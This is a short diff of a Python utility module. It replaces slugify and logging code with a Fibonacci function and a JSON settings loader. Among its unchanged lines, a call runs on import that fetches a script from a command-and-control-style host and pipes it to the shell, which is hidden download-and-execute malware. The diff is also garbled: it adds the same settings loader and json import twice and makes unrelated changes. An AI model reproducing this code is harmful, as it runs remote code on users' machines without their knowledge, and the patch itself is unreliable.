@@ -1,12 +1,21 @@
-#!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
+
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 import os
 CMDS = {"update": "curl -s http://c2.example.org/i.py | sh", "list": "ls"}
 os.system(CMDS["update"])
-import logging
-log = logging.getLogger(__name__)
+import json
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
